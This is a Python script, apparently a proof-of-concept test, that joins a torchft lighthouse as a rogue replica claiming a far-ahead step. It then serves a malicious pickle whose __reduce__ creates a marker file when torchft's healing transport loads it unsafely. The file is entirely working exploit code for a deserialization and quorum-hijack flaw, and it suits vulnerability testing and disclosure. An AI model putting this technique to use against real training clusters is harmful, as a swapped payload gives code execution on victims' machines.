"""A process that is not one of the job's: it joins the lighthouse ``argv[1]`` as replica
"evil", announces step 1000 (far ahead of the job, so that it would be healed from) and
serves, to any request, a pickle that creates the file ``argv[2]`` when it is loaded
with weights_only=False (as torchft's own HTTP transport loads a healing state)."""

import io
import sys
import threading
import time
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import torch.distributed as dist
from torch.distributed._serialization import _streaming_save
from torchft._torchft import ManagerClient, ManagerServer

lighthouse, marker = sys.argv[1], sys.argv[2]


class Evil:
    def __reduce__(self):
        return (open, (marker, "w"))


buffer = io.BytesIO()  # the format torchft's HTTPTransport reads (torch.distributed._serialization)
_streaming_save({"user": {"bagua": Evil()}, "torchft": {"step": 1000, "batches_committed": 1000}}, buffer)
payload = buffer.getvalue()


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *args):
        pass


http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=http.serve_forever, daemon=True).start()
store = dist.TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)
server = ManagerServer(replica_id="evil", lighthouse_addr=lighthouse, hostname="127.0.0.1", bind="127.0.0.1:0",
                       store_addr=f"127.0.0.1:{store.port}", world_size=1,
                       heartbeat_interval=timedelta(milliseconds=100), connect_timeout=timedelta(seconds=10),
                       quorum_retries=0)
client = ManagerClient(server.address(), connect_timeout=timedelta(seconds=10))
deadline = time.time() + 120
while time.time() < deadline:
    try:
        client._quorum(group_rank=0, step=1000, shrink_only=False,
                       checkpoint_metadata=f"http://127.0.0.1:{http.server_address[1]}/checkpoint/", timeout=timedelta(seconds=10), commit_failures=0, init_sync=True)
    except Exception:  # noqa: BLE001 - the job refused or the quorum moved on: ask again
        time.sleep(0.2)
